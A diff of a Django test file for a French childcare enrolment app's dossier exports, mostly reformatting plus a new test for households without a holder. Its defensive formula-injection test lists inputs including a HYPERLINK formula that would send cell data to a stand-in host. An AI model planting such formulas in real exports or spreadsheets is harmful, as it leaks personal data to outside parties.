@@ -29,6 +29,7 @@ def private_files(settings, tmp_path):
     """The jobs' files (exports) go under PRIVATE_MEDIA_ROOT."""
     settings.PRIVATE_MEDIA_ROOT = tmp_path
 
+
 HEADER = [
     "Référence",
     "Nom de l'enfant",
@@ -82,6 +83,22 @@ def test_csv_lists_accepted_dossiers_with_dot_decimals(accepted, agent):
     assert (declined[9], declined[11]) == ("4.61", "tarif le plus élevé")
 
 
+def test_a_household_without_a_holder_leaves_the_holder_column_empty(accepted, agent):
+    holders = {
+        row["reference"]: row["family"]
+        for row in exports.export_rows(service=accepted.service, period=accepted)
+    }
+    orphan = Dossier.objects.filter(period=accepted, status=Dossier.Status.ACCEPTED).first()
+    holder = orphan.child.household.adults.get(role="holder")
+    assert holders[orphan.reference] == f"{holder.first_names} {holder.last_name}"
+    holder.delete()
+    holders = {
+        row["reference"]: row["family"]
+        for row in exports.export_rows(service=accepted.service, period=accepted)
+    }
+    assert holders[orphan.reference] == "" and len(holders) == 2
+
+
 def test_xlsx_holds_numbers_shown_with_two_decimals(accepted, agent):
     content, _type = exports.dossiers_export(
         agent=agent, service=accepted.service, period=accepted, file_format="xlsx"
@@ -116,8 +133,14 @@ def test_the_admin_page_needs_the_export_permission(accepted, client, django_cap
     with django_capture_on_commit_callbacks() as queued:
         response = client.post(url, {"period": accepted.pk, "file_format": "csv"})
     job = Job.objects.get()
-    assert response.status_code == 302 and response["Location"] == reverse("admin:cantine_job_change", args=[job.pk])
-    assert (job.status, job.file.name, len(queued)) == (Job.Status.QUEUED, "", 1)  # never written in the request
+    assert response.status_code == 302 and response["Location"] == reverse(
+        "admin:cantine_job_change", args=[job.pk]
+    )
+    assert (job.status, job.file.name, len(queued)) == (
+        Job.Status.QUEUED,
+        "",
+        1,
+    )  # never written in the request
     page = reverse("admin:cantine_job_change", args=[job.pk])
     running = client.get(page).content.decode()
     assert "Actualiser l'avancement" in running and 'http-equiv="refresh"' not in running  # no timed refresh
@@ -135,7 +158,9 @@ def test_a_job_file_is_for_the_agent_who_started_it(accepted, client):
     owner, other = UserFactory(is_staff=True), UserFactory(is_staff=True)
     for agent in (owner, other):
         agent.user_permissions.add(Permission.objects.get(codename="export_dossiers"))
-    job = services.job_start(kind=Job.Kind.EXPORT, agent=owner, params={"period": accepted.pk, "file_format": "xlsx"})
+    job = services.job_start(
+        kind=Job.Kind.EXPORT, agent=owner, params={"period": accepted.pk, "file_format": "xlsx"}
+    )
     services.job_execute(job=job)
     client.force_login(other)
     assert client.get(reverse("admin:cantine_job_download", args=[job.pk])).status_code == 404
@@ -147,7 +172,9 @@ def test_a_job_file_is_for_the_agent_who_started_it(accepted, client):
 
 def test_jobs_and_their_files_are_erased_after_the_retention(accepted):
     job = services.job_start(
-        kind=Job.Kind.EXPORT, agent=UserFactory(is_staff=True), params={"period": accepted.pk, "file_format": "csv"}
+        kind=Job.Kind.EXPORT,
+        agent=UserFactory(is_staff=True),
+        params={"period": accepted.pk, "file_format": "csv"},
     )
     services.job_execute(job=job)
     job.refresh_from_db()
@@ -186,7 +213,14 @@ def test_the_export_costs_the_same_queries_for_many_dossiers(accepted, agent, dj
     assert len(rows) == 7
 
 
-FORMULAS = ['=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")', "+33 6 12", "-2+3", "@SOMME(A1:A9)", "\tTab", "\rRetour"]
+FORMULAS = [
+    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")',
+    "+33 6 12",
+    "-2+3",
+    "@SOMME(A1:A9)",
+    "\tTab",
+    "\rRetour",
+]
 
 
 @pytest.mark.parametrize("name", FORMULAS)
@@ -194,11 +228,17 @@ def test_a_name_that_looks_like_a_formula_stays_text_in_both_formats(accepted, a
     """A family types its child's names; an agent opens the export in a spreadsheet: nothing it typed may run."""
     Child.objects.filter(first_names="Zoé").update(first_names=name)
     service = Dossier.objects.filter(period=accepted).first().service
-    csv_content, _type = exports.dossiers_export(agent=agent, service=service, period=accepted, file_format="csv")
+    csv_content, _type = exports.dossiers_export(
+        agent=agent, service=service, period=accepted, file_format="csv"
+    )
     first_names = [row[2] for row in rows_of_csv(csv_content)[1:]]
     assert f"'{name}" in first_names
-    assert not any(value.startswith(exports.FORMULA_STARTS) for row in rows_of_csv(csv_content)[1:] for value in row)
-    xlsx_content, _type = exports.dossiers_export(agent=agent, service=service, period=accepted, file_format="xlsx")
+    assert not any(
+        value.startswith(exports.FORMULA_STARTS) for row in rows_of_csv(csv_content)[1:] for value in row
+    )
+    xlsx_content, _type = exports.dossiers_export(
+        agent=agent, service=service, period=accepted, file_format="xlsx"
+    )
     sheet = load_workbook(io.BytesIO(xlsx_content)).active
     cells = [row[2] for row in sheet.iter_rows(min_row=2)]
     # XlsxWriter writes a control character as OOXML's escape (« _x000D_ »), which spreadsheet software reads back as
@@ -216,7 +256,9 @@ def test_a_creche_export_gives_the_contracts_monthly_fee(agent):
         offer=offer(dossier, session, creche), user=dossier.child.household.owner
     )
     Dossier.objects.filter(pk=dossier.pk).update(status=Dossier.Status.ACCEPTED)
-    content, _type = exports.dossiers_export(agent=agent, service=period.service, period=period, file_format="csv")
+    content, _type = exports.dossiers_export(
+        agent=agent, service=period.service, period=period, file_format="csv"
+    )
     header, row = rows_of_csv(content)[:2]
     assert header == HEADER
     assert Decimal(row[-1]) == contract.monthly_fee > 0
